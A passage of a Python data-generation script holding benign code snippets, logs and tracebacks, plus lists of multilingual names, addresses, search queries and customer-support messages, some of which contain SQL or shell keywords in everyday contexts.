    ("nginx", "nginx", "shop.conf", "nginx reverse proxy: redirect loop behind the load balancer", "nginx reverse-proxy ssl", r'''
server {
    listen 443 ssl http2;
    server_name shop.example.com;

    ssl_certificate     /etc/letsencrypt/live/shop.example.com/fullchain.pem;
    ssl_certificate_key /etc/letsencrypt/live/shop.example.com/privkey.pem;

    location /static/ {
        alias /srv/shop/static/;
        expires 30d;
    }

    location / {
        proxy_pass http://127.0.0.1:8000;
        proxy_set_header Host $host;
        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
        proxy_set_header X-Forwarded-Proto $scheme;
    }
}
'''),
    ("nginx", "nginx", "snippets/hardening.conf", "Deny dotfiles but keep /.well-known reachable", "nginx regex", r'''
location ~ /\.(?!well-known) {
    deny all;
}
location ~* \.(?:css|js|woff2?)$ {
    add_header Cache-Control "public, max-age=31536000, immutable";
}
rewrite ^/blog/(\d{4})/(\d{2})/(.*)$ /posts/$3?y=$1&m=$2 permanent;
'''),
    ("nginx", "nginx", "api.conf", "limit_req on the login endpoint only", "nginx rate-limiting", r'''
limit_req_zone $binary_remote_addr zone=login:10m rate=5r/m;

upstream api_backend {
    least_conn;
    server 10.0.1.11:8080 max_fails=3 fail_timeout=10s;
    server 10.0.1.12:8080 max_fails=3 fail_timeout=10s;
}

server {
    location = /login {
        limit_req zone=login burst=3 nodelay;
        proxy_pass http://api_backend;
    }
}
'''),
    ("apache", "apacheconf", ".htaccess", "Force HTTPS and route everything else to index.php", "apache mod-rewrite", r'''
RewriteEngine On
RewriteCond %{HTTPS} off
RewriteRule ^(.*)$ https://%{HTTP_HOST}%{REQUEST_URI} [L,R=301]

RewriteCond %{REQUEST_FILENAME} !-f
RewriteCond %{REQUEST_FILENAME} !-d
RewriteRule ^ index.php [QSA,L]
'''),
    ("apache", "apacheconf", "intranet.conf", "Require ip is ignored in my VirtualHost", "apache2 access-control", r'''
<VirtualHost *:80>
    ServerName intranet.example.org
    DocumentRoot /var/www/intranet/public
    <Directory /var/www/intranet/public>
        Options -Indexes +FollowSymLinks
        AllowOverride All
        Require ip 10.20.0.0/16
    </Directory>
    ErrorLog ${APACHE_LOG_DIR}/intranet_error.log
    CustomLog ${APACHE_LOG_DIR}/intranet_access.log combined
</VirtualHost>
'''),
    ("apache", "apacheconf", "shtml.conf", "Server-side includes show up as literal comments in the page", "apache ssi", r'''
# enable server-side includes for .shtml files only
AddType text/html .shtml
AddOutputFilter INCLUDES .shtml
<Directory /var/www/legacy>
    Options +IncludesNOEXEC
</Directory>
# footer.shtml contains:  <!--#include virtual="/partials/footer.html" -->
'''),
    ("regex", "regex", "email.regex", "Is this e-mail regex good enough for a signup form?", "regex validation", r'''
^[A-Za-z0-9._%+'-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}$

matches:   o'brien@example.ie, first.last+tag@sub.example.co.uk
rejects:   @example.com, name@localhost, name@@example.com
'''),
    ("regex", "regex", "password.regex", "Password policy with lookaheads: symbol check fails for é", "regex lookahead", r'''
^(?=.*[a-z])(?=.*[A-Z])(?=.*\d)(?=.*[^\w\s]).{12,}$

"Correct-Horse-9"   -> match
"correcthorse9!"    -> no match (no upper case)
'''),
    ("regex", "regex", "iso8601.regex", "Regex for ISO 8601 dates with optional time and offset", "regex datetime", r'''
\b(\d{4})-(0[1-9]|1[0-2])-(0[1-9]|[12]\d|3[01])(?:T([01]\d|2[0-3]):[0-5]\d(?::[0-5]\d(?:\.\d+)?)?(Z|[+-]\d{2}:\d{2})?)?\b
'''),
    ("regex", "regex", "ipv4.regex", "Matching IPv4 addresses without accepting 999.1.1.1", "regex ip-address", r'''
\b(?:(?:25[0-5]|2[0-4]\d|1?\d?\d)\.){3}(?:25[0-5]|2[0-4]\d|1?\d?\d)\b
'''),
    ("regex", "regex", "strip_tags.regex", "Why shouldn't I strip HTML tags with a regex?", "regex html", r'''
<\/?([a-z][a-z0-9]*)\b[^>]*>

works on:  <p class="x">Hello <b>world</b></p>
breaks on: <img alt="a > b"> and on comments like <!-- <p> -->
'''),
    ("regex", "regex", "uk_postcode.regex", "UK postcode regex rejects GIR 0AA and BFPO", "regex", r'''
^(GIR 0AA|[A-Z]{1,2}\d[A-Z\d]? ?\d[A-Z]{2})$
'''),
    ("text", "text", "npe.txt", "NullPointerException in a formatter only for some invoices", "java nullpointerexception", r'''
Exception in thread "main" java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null
	at com.example.billing.InvoiceFormatter.pad(InvoiceFormatter.java:42)
	at com.example.billing.InvoiceFormatter.format(InvoiceFormatter.java:27)
	at com.example.billing.Main.main(Main.java:15)
'''),
    ("text", "pytb", "traceback.txt", "Django: relation does not exist after deploying", "django postgresql migrations", r'''
Traceback (most recent call last):
  File "/home/deploy/app/manage.py", line 22, in <module>
    main()
  File "/home/deploy/.venv/lib/python3.11/site-packages/django/db/backends/utils.py", line 89, in _execute
    return self.cursor.execute(sql, params)
django.db.utils.ProgrammingError: relation "shop_order" does not exist
LINE 1: SELECT "shop_order"."id", "shop_order"."total" FROM "shop_order" WHERE ...
                                                            ^
'''),
    ("text", "text", "node-error.txt", "Cannot read properties of undefined (reading 'map') on first render", "node.js javascript", r'''
TypeError: Cannot read properties of undefined (reading 'map')
    at renderList (/srv/app/src/components/List.js:18:23)
    at Object.<anonymous> (/srv/app/src/index.js:7:1)
    at Module._compile (node:internal/modules/cjs/loader:1364:14)
    at node:internal/main/run_main_module:28:49
'''),
    ("text", "text", "dotnet-error.txt", "Sequence contains no elements when the cart is empty", "c# linq exception", r'''
System.InvalidOperationException: Sequence contains no elements
   at System.Linq.ThrowHelper.ThrowNoElementsException()
   at System.Linq.Enumerable.First[TSource](IEnumerable`1 source)
   at Shop.Web.Controllers.CartController.Checkout(Int32 id) in C:\src\Shop.Web\Controllers\CartController.cs:line 88
'''),
    ("text", "text", "php-fatal.txt", "Unknown column in where clause after renaming a column", "php pdo mysql", r'''
PHP Fatal error:  Uncaught PDOException: SQLSTATE[42S22]: Column not found: 1054 Unknown column 'o.shipped_on' in 'where clause' in /var/www/html/app/Repository/OrderRepository.php:57
Stack trace:
#0 /var/www/html/app/Repository/OrderRepository.php(57): PDOStatement->execute()
#1 /var/www/html/public/index.php(31): App\Repository\OrderRepository->late()
#2 {main}
  thrown in /var/www/html/app/Repository/OrderRepository.php on line 57
'''),
    ("text", "text", "panic.txt", "index out of range when the CSV header is short", "go panic csv", r'''
panic: runtime error: index out of range [3] with length 3

goroutine 1 [running]:
main.parseHeader({0xc000014090, 0x3, 0x3})
	/home/mk/src/csvtool/main.go:41 +0x1d4
main.main()
	/home/mk/src/csvtool/main.go:19 +0x8a
exit status 2
'''),
    ("text", "text", "rust-panic.txt", "unwrap on a missing config file: how to give a nicer error", "rust error-handling", r'''
thread 'main' panicked at src/config.rs:28:10:
called `Result::unwrap()` on an `Err` value: Os { code: 2, kind: NotFound, message: "No such file or directory" }
note: run with `RUST_BACKTRACE=1` environment variable to display a backtrace
'''),
    ("text", "log", "access.log", "Spike of 404s for favicon from curl in the access log", "nginx logging", r'''
203.0.113.54 - - [04/Dec/2026:09:12:44 +0000] "GET /api/products?page=3&sort=price_desc HTTP/2.0" 200 5120 "https://shop.example.com/c/shoes" "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X)"
203.0.113.54 - - [04/Dec/2026:09:12:45 +0000] "POST /api/cart/items HTTP/2.0" 201 312 "-" "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X)"
198.51.100.23 - - [04/Dec/2026:09:12:51 +0000] "GET /favicon.ico HTTP/1.1" 404 153 "-" "curl/8.5.0"
'''),
    ("text", "log", "postgresql.log", "Unique violation on e-mail, but the address has an apostrophe", "postgresql unique-constraint", r'''
2026-12-03 22:14:07.311 UTC [48121] ERROR:  duplicate key value violates unique constraint "users_email_key"
2026-12-03 22:14:07.311 UTC [48121] DETAIL:  Key (email)=(o'neill@example.ie) already exists.
2026-12-03 22:14:07.311 UTC [48121] STATEMENT:  INSERT INTO users (email, name) VALUES ($1, $2)
'''),
    ("text", "log", "auth.log", "Lots of 'Invalid user admin' lines — should I worry?", "linux ssh security", r'''
Dec  5 03:17:22 bastion sshd[20931]: Invalid user admin from 192.0.2.44 port 51234
Dec  5 03:17:24 bastion sshd[20931]: Connection closed by invalid user admin 192.0.2.44 port 51234 [preauth]
Dec  5 03:18:02 bastion sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx
'''),
    ("text", "console", "kubectl.txt", "Pod in CrashLoopBackOff can't reach Postgres service", "kubernetes networking", r'''
$ kubectl get pods -n shop
NAME                   READY   STATUS             RESTARTS      AGE
web-7c9d8f6b4-2kxqv    1/1     Running            0             3d
web-7c9d8f6b4-9lmzt    0/1     CrashLoopBackOff   14 (2m ago)   51m
$ kubectl logs web-7c9d8f6b4-9lmzt -n shop --previous | tail -3
Error: connect ECONNREFUSED 10.96.12.7:5432
'''),
    ("text", "log", "error.log", "AH00132 permission denied on an uploaded PDF", "apache permissions", r'''
[Thu Dec 03 14:02:11.402193 2026] [php:warn] [pid 2231] [client 198.51.100.70:53122] PHP Warning:  Undefined array key "page" in /var/www/site/list.php on line 12, referer: https://site.example.org/list.php
[Thu Dec 03 14:02:19.118820 2026] [core:error] [pid 2232] (13)Permission denied: [client 198.51.100.70:53130] AH00132: file permission deny: /var/www/site/uploads/report.pdf failed
'''),
    ("json", "json", "app.log.jsonl", "Slow query warning in our structured logs: which index is missing?", "postgresql performance logging", r'''
{"ts":"2026-12-04T07:01:13.442Z","level":"warn","msg":"slow query","duration_ms":2311,"sql":"SELECT * FROM events WHERE account_id = $1 ORDER BY created_at DESC","route":"GET /api/events"}
{"ts":"2026-12-04T07:01:15.003Z","level":"error","msg":"upstream timeout","upstream":"payments","attempt":3}
'''),
    ("text", "log", "u_ex261202.log", "IIS log shows 500 on CSV export for one user only", "iis logging", r'''
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken
2026-12-02 10:41:07 10.1.2.3 GET /reports/export.aspx format=csv&from=2026-11-01 443 CORP\jbloggs 10.1.9.88 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) 500 0 0 1534
'''),
    ("c", "c", "hello.c", "snprintf vs strcpy for a fixed-size greeting buffer", "c strings", r'''
#include <stdio.h>
#include <string.h>

int main(int argc, char *argv[]) {
    char buf[64];
    if (argc < 2) { fprintf(stderr, "usage: %s NAME\n", argv[0]); return 1; }
    snprintf(buf, sizeof buf, "Hello, %s!", argv[1]);
    puts(buf);
    return 0;
}
'''),
    ("make", "make", "Makefile", "What do $@, $^ and $(@D) mean in this Makefile rule?", "makefile", r'''
.PHONY: all clean
CFLAGS ?= -O2 -Wall -Wextra

all: bin/tool

bin/tool: $(wildcard src/*.c)
    @mkdir -p $(@D)
    $(CC) $(CFLAGS) -o $@ $^

clean:
    rm -rf bin/ *.o
'''),
    ("hcl", "terraform", "s3.tf", "Terraform: bucket name with the environment suffix", "terraform aws-s3", r'''
resource "aws_s3_bucket" "assets" {
  bucket = "shop-assets-${var.env}"
  tags   = { Owner = "web-team", Env = var.env }
}

resource "aws_s3_bucket_public_access_block" "assets" {
  bucket                  = aws_s3_bucket.assets.id
  block_public_acls       = true
  restrict_public_buckets = true
}
'''),
    ("kotlin", "kotlin", "Money.kt", "Operator overloading for a Money type in Kotlin", "kotlin", r'''
data class Money(val cents: Long, val currency: String) {
    operator fun plus(o: Money): Money {
        require(currency == o.currency) { "currency mismatch: $currency vs ${o.currency}" }
        return Money(cents + o.cents, currency)
    }
    override fun toString() = "%s %d.%02d".format(currency, cents / 100, cents % 100)
}
'''),
    ("swift", "swift", "Product.swift", "JSONDecoder with snake_case keys", "swift codable", r'''
struct Product: Codable, Identifiable {
    let id: UUID
    var name: String
    var priceCents: Int
}

let decoder = JSONDecoder()
decoder.keyDecodingStrategy = .convertFromSnakeCase
let products = try decoder.decode([Product].self, from: data)
'''),
    ("css", "css", "theme.css", "Dark mode variables with prefers-color-scheme", "css dark-mode", r'''
:root { --brand: #0b5fff; --radius: 6px; --bg: #fff; --fg: #111; }
@media (prefers-color-scheme: dark) {
  :root { --bg: #111; --fg: #eee; }
}
.card > .title::after { content: " \2192"; }
body { background: var(--bg); color: var(--fg); }
'''),
    ("bat", "batch", "deploy.cmd", "robocopy exit code 1 fails my deploy script", "batch-file robocopy", r'''
@echo off
setlocal
set SRC=C:\Projects\site\dist
set DST=\\fileserver\web$\site
robocopy "%SRC%" "%DST%" /MIR /R:2 /W:5 /NP /LOG:"%TEMP%\deploy.log"
if %ERRORLEVEL% GEQ 8 exit /b 1
exit /b 0
'''),
    ("graphql", "graphql", "schema.graphql", "GraphQL schema: nullable list of non-null items", "graphql schema", r'''
type Query {
  order(id: ID!): Order
  orders(first: Int = 20, after: String, status: [OrderStatus!]): OrderConnection!
}

enum OrderStatus { PENDING PAID SHIPPED CANCELLED }

type Order {
  id: ID!
  number: String!
  total: Money!
  lines: [OrderLine!]!
}
'''),
]

GO_LIKE = {"go", "make"}


def code_text(entry) -> str:
    """The code of a CODE entry, with tabs where its language indents with them."""
    fence, syntax, _fn, _title, _tags, code = entry
    code = code.strip("\n")
    if fence in GO_LIKE:
        lines = []
        for line in code.split("\n"):
            n = len(line) - len(line.lstrip(" "))
            lines.append("\t" * (n // 4) + line[n - n % 4:])
        code = "\n".join(lines)
    return code


# --------------------------------------------------------------------------
# Prose, written for this corpus
# --------------------------------------------------------------------------

QA_INTROS = [
    "I've been stuck on this for most of the afternoon.",
    "New to this, so apologies if it's obvious.",
    "Running into something odd since we upgraded our stack last week.",
    "This works on my laptop but not on the CI runner, and I can't see the difference.",
    "Our team inherited this from a contractor and nobody really understands it.",
    "I read the docs twice and I'm still confused about one part.",
    "Minimal example below; I stripped out everything unrelated.",
    "Context: small internal tool, maybe 20 users, nothing fancy.",
    "Cross-posting from the mailing list since nobody answered there.",
    "Bit of a long one, sorry. Here is the relevant part:",
    "My colleague says this is fine, I say it's going to bite us in production. Who's right?",
    "Following up on my earlier question: I narrowed it down to this.",
    "This is for a university assignment, so hints are more welcome than full answers.",
    "Weird one: it fails roughly one time in ten, never when I'm watching.",
    "We're moving from an old on-prem box to containers and hit this.",
    "I know similar questions exist, but none of the answers I found cover my case.",
    "Code review asked me to \"make this less clever\". What would you change?",
    "Trying to learn the idiomatic way rather than just making it pass.",
    "Second day on the job and this is my first ticket, so be gentle :)",
    "Posting on behalf of a colleague who doesn't have an account yet.",
]

QA_CLOSINGS = [
    "What am I missing?",
    "Any pointers appreciated, even just which page of the docs to read.",
    "Is there a cleaner way to do this, or is this about as good as it gets?",
    "The error only shows up when the input contains an apostrophe, e.g. O'Reilly.",
    "Is this safe against injection, or do I need to escape something myself?",
    "It runs, but takes ~40 seconds on a table with 2 million rows. How do I speed it up?",
    "Why does this work on Linux and not on Windows?",
    "I'd rather not drop and recreate the table if there's a way around it.",
    "Bonus question: how would I write a test for this?",
    "Edit: versions are in the comments of the snippet. Edit 2: restarting doesn't help.",
    "Does the order of these lines matter?",
    "Thanks in advance! Happy to add more detail if needed.",
    "If I remove the last line it works, which makes no sense to me.",
    "Output is empty: no error, no warning, nothing.",
    "Should I be using a library for this instead of rolling my own?",
    "The linter flags the line with the comment but I don't understand the warning.",
    "How do I make this idempotent so I can run it from cron every hour?",
    "Where should the config actually live: in the image, or mounted at runtime?",
    "Expected: one row per customer. Actual: one row per order line. Where's my mistake?",
    "It used to work before the upgrade; nothing in the changelog looks related.",
]

ANSWER_INTROS = [
    "Short answer: you don't need the loop at all.",
    "The problem is the quoting, not the command itself. Something like this works:",
    "I ran into exactly this last year. What fixed it for us:",
    "You're close. Move the condition into the join and it behaves:",
    "Two things: the order of operations, and the fact that the value can be null. Try:",
    "Don't build the string by hand; let the driver do it. For example:",
    "This is a known gotcha. The docs mention it in a footnote, which is why nobody finds it.",
    "Here is a version that's easier to test:",
    "I'd restructure it slightly so the side effects are in one place:",
    "Assuming you're on a reasonably recent version, this is the idiomatic way:",
    "+1 to the comment above; to make it concrete:",
    "Late answer, but for anyone landing here from a search engine:",
    "Your snippet is fine; the environment is the problem. Compare with this:",
    "Full working example, copy-paste friendly:",
]

ANSWER_CLOSINGS = [
    "Hope that helps!",
    "Tested on the versions you listed; older ones may need a tweak.",
    "Benchmark it on your own data before trusting my numbers, obviously.",
    "If you still see the error after that, post the full log and I'll take another look.",
    "See also the official docs on this; they explain the edge cases better than I can.",
    "Caveat: I haven't tried this on Windows.",
    "Happy to expand on any of it.",
    "(Edited to fix a typo in the second line.)",
    "If this answered it, please mark it accepted so others find it.",
    "And please don't run it against production first :)",
]

SHOP_SEARCHES = [
    "union station select seats", "drop me a line notecards", "select comfort mattress topper",
    "insoles for running shoes", "table and chairs set of 4", "delete key replacement for keyboard",
    "black or navy dress size 12", "rock 'n' roll t-shirt", "children's books 5-7 years",
    "o'neill wetsuit 4/3", "buy 1 get 1 free", "exec chair leather high back", "script font wedding invitations",
    "alert whistle for hiking", "cat toys & scratchers", "union jack flag 5x3", "100% cotton sheets king",
    "women's boots size 8½", "<3 valentines mug", "c++ programming book", "cable ties 200mm pack of 100",
    "2x4 lumber 8ft", "silk sleep mask", "ping pong table outdoor", "echo dot wall mount", "80s shell suit",
    "kill switch motorcycle", "from dusk till dawn blu-ray", "null modem cable db9", "curl bar 120cm",
    "'tis the season ornament", "dr. martens 1460 – cherry red", "café au lait cups", "東京 ガイドブック",
    "кроссовки беговые 42", "and/or logic gate kit", "having a ball party supplies", "¿dónde está? phrasebook",
    "tea for 2 teapot", "wall clock -roman", "table lamp < 50€", "sql for beginners book", "order by phone",
    "insert coin arcade sign", "update firmware cable", "script writing software", "where is my order",
    "1/2\" drill bit set", "mens jeans 32\" x 30\"", "kids' scooter (3-5 yrs)", "\"waterproof\" hiking socks",
    "bash hat", "sleep & relax tea", "wireless mouse -bluetooth", "gifts for him under £20",
    "wasserkocher edelstahl 1,7l", "coque iphone 15 transparente", "tapete de yoga antiderrapante",
    "O'Reilly learning python", "carry-on 55x40x20",
]

QA_SEARCHES = [
    "how to escape single quote in sql", "bash for loop over files with spaces", "python subprocess check_output vs run",
    "select distinct on multiple columns postgres", "drop table if exists mysql", "union vs union all performance",
    "document.getElementById returns null", "<script> defer vs async", "nginx proxy_pass trailing slash",
    "Get-ChildItem -Recurse exclude folder", "git reset --hard HEAD~1 undo", "python relative import ../",
    "regex lookahead password", "kubectl exec -it bash", "what does 2>&1 mean", "chmod 755 vs 644",
    "docker compose ${VAR} default value", "ORDER BY CASE WHEN", "xpath contains text", "why WHERE 1=1 in generated sql",
    "rm -rf node_modules doesn't fix", "[[ vs [ in bash", "{{ }} helm quote", "SELECT * FROM information_schema.columns",
    "cat /etc/os-release in docker", "cron every 5 minutes */5", "&& vs ; in shell", "sqlalchemy text() bind params",
]

REFERER_QUERIES = [
    "cheap flights union station", "how to drop a university course", "select all shortcut mac",
    "insert row excel shortcut", "o'brien family crest", "union station seating plan", "drop shipping returns policy",
    "best script font free", "update drivers windows 11", "delete instagram account", "sql join cheat sheet",
    "bash script if else", "powershell get-childitem", "what is <br> in html", "mattress 'select comfort' review",
    "is 1=1 true in sql", "kill -9 vs kill", "echo chamber meaning", "table for 4 restaurant near me",
]

NAMES = [
    "Siobhán O'Brien", "Seán Ó Briain", "D'Arcy Featherstonehaugh-Smythe", "Mary-Kate O'Connor-Walsh", "Jean-François Lefèvre",
    "Björk Guðmundsdóttir", "Łukasz Wróbel", "José María Núñez de Balboa", "Zoë Hart-Lindqvist", "N'Golo Diabaté",
    "张伟", "田中 さくら", "김민준", "Αλέξανδρος Παπαδόπουλος", "Дмитрий Иванов", "محمد الأحمد", "אברהם כהן",
    "Nguyễn Thị Minh Khai", "Siobhán Ní Dhomhnaill", "Hans-Peter Müller", "Åsa Sjöström", "Ananya Iyer", "राहुल शर्मा",
    "Mehmet Öztürk", "Gökhan Şahin", "Tomás Ó Súilleabháin", "Juan Pablo de la Cruz", "Pieter van der Berg",
    "Chris \"CJ\" Jordan", "Anne-Marie D'Souza", "Giulia Dell'Acqua", "Jennifer Null", "Marcus Union", "Wei Ping",
    "Aroha Te Whare", "Chidi Okonkwo-Adeyemi", "Dr. Fiona MacLeòid, PhD", "O'Neil St. John", "Ngozi Eze-O'Hara",
    "Maëlle L'Hôpital", "Kwabena Asante Jr.", "ʻIolani Kahananui", "Ólafur Þórðarson", "Xōchitl Hernández",
]

EMAILS = [
    "siobhan.obrien@example.ie", "o'connor.walsh@example.com", "jf.lefevre+commandes@example.fr", "lukasz@example.pl",
    "tanaka.sakura@example.jp", "minjun.kim@example.kr", "d.ivanov@example.ru", "chris.jordan@example.co.uk",
    "anne-marie.d'souza@example.in", "giulia_dellacqua@example.it", "jennifer.null@example.org", "orders+2026@example.net",
    "accounts-payable@example-holdings.com", "x@example.io", "aroha@example.nz", "info@müller-bau.example",
]

PHONES = ["+353 87 123 4567", "+44 (0)20 7946 0321", "+1 (415) 555-0132 ext. 7", "+33 6 12 34 56 78", "+49 30 1234567-89",
          "+81 90-1234-5678", "+82 10-1234-5678", "+55 11 91234-5678", "+7 912 345-67-89", "+971 50 123 4567",
          "(02) 9876 5432", "07700 900456", "+48 601 234 567", "+64 21 555 0198"]

ADDRESSES = [
    # (line1, line2, city, region, postcode, country)
    ("Apt 3, 12 O'Connell Street Upper", "", "Dublin 1", "", "D01 T2X3", "IE"),
    ("Flat 2/1, 45 Hyndland Road", "", "Glasgow", "", "G12 9UX", "GB"),
    ("12 Rue de l'Église", "Bâtiment B, 3e étage", "Lyon", "", "69002", "FR"),
    ("Calle de O'Donnell 12, 3º izq.", "", "Madrid", "Madrid", "28009", "ES"),
    ("Via dell'Orso 5", "Scala A, int. 7", "Roma", "RM", "00186", "IT"),
    ("Hauptstraße 17a", "c/o Müller & Söhne GmbH", "Köln", "NRW", "50667", "DE"),
    ("ul. Świętokrzyska 14/3", "", "Warszawa", "mazowieckie", "00-050", "PL"),
    ("İstiklal Cd. No:5 D:3", "Beyoğlu", "İstanbul", "", "34430", "TR"),
    ("渋谷区神南1-2-3", "ハイツ渋谷 402号室", "東京都", "", "150-0041", "JP"),
    ("서울특별시 강남구 테헤란로 152", "강남파이낸스센터 21층", "서울", "", "06236", "KR"),
    ("北京市朝阳区建国路88号", "SOHO现代城 2号楼 1203室", "北京", "", "100022", "CN"),
    ("ул. Тверская, д. 7, кв. 12", "", "Москва", "", "125009", "RU"),
    ("شارع الملك فهد، مبنى 14", "الطابق الثالث", "الرياض", "", "12211", "SA"),
    ("רחוב הרצל 21, דירה 4", "", "תל אביב-יפו", "", "6578102", "IL"),
    ("Λεωφόρος Βασιλίσσης Σοφίας 12", "", "Αθήνα", "", "106 74", "GR"),
    ("Rua São João, 1.250 - apto 41", "Centro", "São Paulo", "SP", "01036-000", "BR"),
    ("1234, rue Sainte-Catherine O., app. 5", "", "Montréal", "QC", "H3G 1P1", "CA"),
    ("Unit 4 / 12 Smith St", "", "Fitzroy", "VIC", "3065", "AU"),
    ("123 Main St. #4B", "Attn: Receiving Dept.", "Springfield", "IL", "62701-1234", "US"),
    ("P.O. Box 7781", "", "Anchorage", "AK", "99510", "US"),
    ("Số 25, ngõ 88 phố Nguyễn Khánh Toàn", "phường Quan Hoa", "Hà Nội", "", "100000", "VN"),
    ("123/45 ถนนสุขุมวิท ซอย 21", "แขวงคลองเตยเหนือ", "กรุงเทพมหานคร", "", "10110", "TH"),
    ("B-42, Sector 18", "Near Atta Market", "Noida", "Uttar Pradesh", "201301", "IN"),
    ("Laugavegur 26", "", "Reykjavík", "", "101", "IS"),
    ("Mannerheimintie 14 B 22", "", "Helsinki", "", "00100", "FI"),
    ("Te Aro, 3/101 Cuba Street", "", "Wellington", "", "6011", "NZ"),
    ("Carrera 7 # 71-21, Torre B, Of. 902", "", "Bogotá", "D.C.", "110231", "CO"),
    ("Plot 14, Admiralty Way", "Lekki Phase 1", "Lagos", "Lagos State", "106104", "NG"),
    ("Rosenlundsgatan 3, lgh 1102", "", "Stockholm", "", "118 53", "SE"),
    ("'t Hoogt 7", "", "Utrecht", "", "3512 GZ", "NL"),
]

SUPPORT_FORM_TEXTS = [
    "Hi, I placed order #48213 on Monday and selected express delivery, but the tracking page still says 'label created'. Could you check whether it has actually left the warehouse? Thanks, Priya",
    "Please delete my account and all the data you hold on me; I no longer use the service. (If there's a form I should fill in instead, just point me to it.)",
    "The 'Update payment method' button does nothing when I click it. Tried Firefox and Chrome, cleared cookies, same result. Windows 11.",
    "Hello, I'd like to drop my subscription from the Family plan to the Individual one from next month. Is that possible without losing my playlists?",
    "Your checkout rejected my surname because it contains an apostrophe (D'Angelo). I had to type DAngelo, which will probably confuse the courier.",
    "We're a small school and want to order 30 copies of the workbook. Do you accept a purchase order / invoice instead of card payment?",
    "I got charged twice: once at 14:02 and once at 14:03, both £34.99. Screenshot of my bank statement attached. Please refund one of them.",
    "Is there a way to export all my invoices at once? Right now I select each one and click download, which takes forever with 120 invoices.",
    "The tap I bought (model KX-200) drips from the base after two weeks. The manual says to tighten the nut under the sink; did that, still dripping.",
    "Quick question: does the Union Jack cushion cover come with the insert, or is it the cover only?",
    "I'm connecting your API from our ERP. Calls to /v2/orders return 401 even though the same key works in Postman. Does the key need a specific scope?",
    "Where can I find the terms for the 'buy 2, get 1 free' offer? The small print on the banner is cut off on mobile.",
    "My son ordered this without asking (he's 12). Can we cancel before it ships? Order ref AB-77120.",
    "Good morning, the parcel was left 'in a safe place' according to the app, but it isn't anywhere around the house or with the neighbours. Please advise.",
    "Feature request: let us select multiple rows in the table and delete them in one go, the way most mail clients do.",
    "The installer stops at 'Running post-install script…' and then says exit code 1. Log file attached. macOS 14.5 on an M2.",
    "Can I change the delivery address on an order that's already been dispatched? I've moved from 12 Rue de l'Église to my partner's flat.",
    "Hi team, the PDF receipts show our company name as O&#39;Sullivan Ltd instead of O'Sullivan Ltd. Small thing, but our accountant noticed.",
    "Is the oak table suitable for outdoor use, or will it crack in the sun? The description says 'treated' but not with what.",
    "I forgot which e-mail address I signed up with, possibly my old work one. Can you look it up by my phone number, 07700 900123?",
    "Your password rules say 'at least one symbol' but the form rejects # and & and %. Which symbols are allowed, exactly?",
    "The cron-style schedule in the report builder (0 6 * * 1-5) sends the report on Saturdays too. Bug, or am I reading it wrong?",
    "Could you please send me a copy of the warranty? I bought the drill in 2024 and lost the paperwork when we moved.",
    "We'd like to allow your sending IPs in our mail filter. Can you share the list, or is there an SPF record we should include?",
    "Bonjour, je n'arrive pas à me connecter depuis hier soir : le site me dit « mot de passe incorrect » alors que je viens de le réinitialiser. Merci d'avance !",
    "Hallo, die Lieferung kam beschädigt an (Karton eingedrückt, eine Tasse zerbrochen). Fotos hänge ich an. Schicken Sie Ersatz oder erstatten Sie den Betrag?",
    "Hola, ¿hacen envíos a Canarias? En el carrito me aparece 'no disponible' para mi código postal 38001.",
    "こんにちは。注文したスニーカーのサイズを26.5cmから27cmに交換したいです。手続きを教えてください。",
    "Your chatbot answers 'I didn't understand that' to everything. I only want to know whether the Union Square store is open on Sunday.",
    "The app crashes as soon as I tap 'Scan barcode'. iPhone 13, iOS 17.4, reinstalled twice. Happy to send logs if you tell me how.",
    "Request: please add 'Mx' to the title dropdown; right now it's only Mr / Mrs / Ms / Dr.",
    "When I paste my address from a maps app, the form puts everything into line 1 and then complains that the postcode is missing.",
    "I run a small bakery and the 'bulk order' page times out when I add more than 50 lines. Is there a CSV upload instead?",
    "Hi, can you tell me whether the 'Script' font set includes a licence for commercial printing, or is it personal use only?",
]

EMAIL_CORES = [
    ("Re: Order #51877 still not shipped", "Hi again,\n\nIt's now day 9 and the order still shows 'processing'. I chose next-day delivery and paid £6.95 for it. If it can't ship this week, please cancel and refund the whole lot.\n\nRegards"),
    ("Invoice address wrong on INV-2026-0412", "Hello,\n\nThe invoice you sent shows our old address (Unit 4, 12 Smith St). We moved in October. Could you re-issue it to:\n\nO'Hara & Partners Ltd\n3rd Floor, 27 Merchant's Quay\nCork T12 XY34\n\nOur VAT no. IE 1234567 T stays the same.\n\nMany thanks"),
    ("Can't log in after password reset", "Hi,\n\nI reset my password twice today; each time the link says 'token expired' even when I click it within a minute. I'm using Outlook's built-in browser, if that matters.\n\nThanks"),
    ("Fwd: Your delivery is delayed", "Hi support,\n\nForwarding the message I got this morning. It says the parcel is held at customs, but it's a domestic order (Leeds to Manchester), so something isn't right.\n\nCheers"),
    ("Question about bulk pricing", "Good afternoon,\n\nWe're looking to order 250 units of the A5 notebooks with our logo. Could you let me know the price per unit at that quantity, the lead time, and whether you can drop-ship to three different offices?\n\nKind regards"),
    ("Refund not received", "Hello,\n\nYou confirmed the refund on 14 November (ref RF-88312) but nothing has arrived on my card. My bank says they can't see anything pending. Could you send me the ARN so they can trace it?\n\nThank you"),
    ("API rate limits", "Hi,\n\nOur integration is hitting HTTP 429 around 10:00 UTC every day when the nightly sync overlaps with the morning traffic. Is the limit per key or per IP? We could split the job if it's per key.\n\nBest"),
    ("Re: Ticket #30119 - duplicate accounts", "Hi,\n\nThanks for looking into it. Yes, please merge the two accounts; keep the one with my Gmail address and drop the work one. The order history on both should end up in a single place if possible.\n\nCheers"),
    ("Damaged item - photos attached", "Hello,\n\nThe glass jug arrived in pieces. The box had no padding at all. Photos attached (3). I'd prefer a replacement rather than a refund.\n\nBest wishes"),
    ("Data export request (GDPR)", "Dear Sir or Madam,\n\nUnder Article 15 of the GDPR I request a copy of all personal data you hold about me, including any profiling or marketing segments, in a machine-readable format.\n\nYours faithfully"),
